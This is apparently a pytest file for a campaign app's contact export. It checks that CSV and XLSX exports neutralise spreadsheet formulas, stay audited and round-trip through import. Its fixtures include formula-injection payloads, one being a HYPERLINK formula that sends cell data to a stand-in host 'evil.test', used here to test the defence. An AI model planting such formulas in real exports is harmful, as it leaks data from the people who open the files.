"""Exporting contacts: every field and character kept, formulas neutralised, exports audited."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from flask import Flask
from openpyxl import load_workbook
from sqlalchemy import select

from campaign.extensions import db
from campaign.models import AuditEvent, Contact
from campaign.services.contacts import importing
from campaign.services.contacts.contacts import CONTACT_FIELDS, create_contact
from campaign.services.contacts.exporting import (
    EXPORT_COLUMNS,
    ExportError,
    export_contacts,
    neutralise_cell,
)

FORMULAS = ['=HYPERLINK("https://evil.test/?"&A1)', "@SUM(1+1)", "+1-1", "-2"]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1-1", "'+1-1"),
        ("-2", "'-2"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Müller", "Müller"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise_cell_prefixes_only_formula_triggers(value: str, expected: str) -> None:
    assert neutralise_cell(value) == expected


def make_contacts() -> None:
    for i, formula in enumerate(FORMULAS):
        create_contact(
            {
                "given_name": formula,
                "family_name": f"Témoin {i}",
                "email": f"f{i}@bücher.de",
                "notes": 'line one\nline two, with "quotes" and ; semicolons',
                "languages": "ru fr",
                "tags": "press eu",
                "term_ends_on": "2027-06-30",
            }
        )
    create_contact({"given_name": "Дильноза", "family_name": "Намунова", "email": "d@example.org"})
    db.session.commit()


def test_csv_export_keeps_every_character_and_neutralises_formulas(app: Flask) -> None:
    make_contacts()
    out = io.BytesIO()
    written = export_contacts(select(Contact).order_by(Contact.id), "csv", out, description="all")
    assert written == 5
    text = out.getvalue().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert tuple(rows[0]) == EXPORT_COLUMNS
    assert rows[0][: len(CONTACT_FIELDS)] == list(CONTACT_FIELDS)
    by_field = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert [r["given_name"] for r in by_field[:4]] == ["'" + f for f in FORMULAS]
    assert by_field[0]["family_name"] == "Témoin 0"
    assert by_field[0]["email"] == "f0@bücher.de"
    assert by_field[0]["notes"] == 'line one\nline two, with "quotes" and ; semicolons'
    assert by_field[0]["term_ends_on"] == "2027-06-30"
    assert by_field[4]["given_name"] == "Дильноза"


def test_the_export_is_audited_with_count_format_and_description(app: Flask) -> None:
    make_contacts()
    export_contacts(select(Contact), "xlsx", io.BytesIO(), description="list Press")
    db.session.commit()
    event = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "contacts.export"))
    assert event is not None
    assert event.detail == {"count": 5, "format": "xlsx", "description": "list Press"}


def test_xlsx_export_neutralises_formulas_and_round_trips_through_import(
    app: Flask, tmp_path: Path
) -> None:
    make_contacts()
    press = importing.find_or_create_list("Press")
    from campaign.services.contacts.lists import add_contacts

    add_contacts(press, db.session.scalars(select(Contact.id)).all())
    db.session.commit()
    before = {
        c.email_key: {f: getattr(c, f) for f in CONTACT_FIELDS}
        for c in db.session.scalars(select(Contact))
    }
    path = tmp_path / "contacts.xlsx"
    with path.open("wb") as out:
        export_contacts(select(Contact).order_by(Contact.id), "xlsx", out, description="all")
    workbook = load_workbook(path, read_only=True)
    sheet = workbook.worksheets[0]
    cells = [list(r) for r in sheet.iter_rows(values_only=True)]
    workbook.close()
    header = cells[0]
    given = header.index("given_name")
    assert cells[1][given] == "'" + FORMULAS[0]  # text, never a formula
    assert cells[1][header.index("lists")] == "Press"
    # Re-import the exported file over an empty table: every field comes back unchanged.
    for contact in db.session.scalars(select(Contact)):
        db.session.delete(contact)
    db.session.commit()
    info, rows = importing.open_contact_file(path)
    rows.close()
    mapping = importing.auto_mapping(info.headers)
    result = importing.import_contacts(path, mapping)
    db.session.commit()
    assert (result.imported, result.rejected) == (5, 0)
    after = {
        c.email_key: {f: getattr(c, f) for f in CONTACT_FIELDS}
        for c in db.session.scalars(select(Contact))
    }
    assert after == before


def test_export_streams_in_batches(app: Flask) -> None:
    for i in range(2500):
        db.session.add(
            Contact(family_name=f"F{i}", email=f"p{i}@example.org", email_key=f"p{i}@example.org")
        )
    db.session.commit()
    out = io.BytesIO()
    assert export_contacts(select(Contact), "csv", out, description="all") == 2500
    assert out.getvalue().decode("utf-8-sig").count("\r\n") == 2501


def test_an_unknown_format_is_refused(app: Flask) -> None:
    with pytest.raises(ExportError, match="csv, xlsx"):
        export_contacts(select(Contact), "pdf", io.BytesIO(), description="all")
